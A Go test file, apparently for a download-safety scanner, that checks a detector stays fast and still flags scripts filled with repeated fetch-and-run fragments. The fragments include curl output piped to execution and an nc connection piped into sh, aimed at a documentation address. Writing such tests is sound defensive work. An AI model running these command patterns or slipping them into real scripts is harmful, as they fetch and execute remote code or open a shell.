package download

import (
	"strings"
	"testing"
	"time"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

// A file full of fetches costs a bounded time, and is not taken for one that was read.
func TestManyFetches(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	file := indicator.File{Path: "a.sh", Kind: trust.KindScript}
	for _, piece := range []string{"curl -s | ", "curl -o x; ", "urlopen( exec(", "curl -s http://203.0.113.4/a | x ", "nc 203.0.113.4 1 | sh -\n", "x http://203.0.113.4/a | eval(b)\n"} {
		body := []byte(strings.Repeat(piece, 1<<16/len(piece)))
		start := time.Now()
		if got := indicatortest.Unread(ind, file, body, indicatortest.Drive{}); got == "" {
			t.Errorf("%q: counts as read", piece)
		}
		if took := time.Since(start); took > time.Minute {
			t.Errorf("%q: took %s", piece, took)
		}
	}
	calls := []byte(strings.Repeat("x = requests.get(url, params=p)\n", 400))
	if got := indicatortest.Unread(ind, indicator.File{Path: "a.py", Kind: trust.KindScript}, calls, indicatortest.Drive{}); got != "" {
		t.Errorf("an ordinary client: %s", got)
	}
}
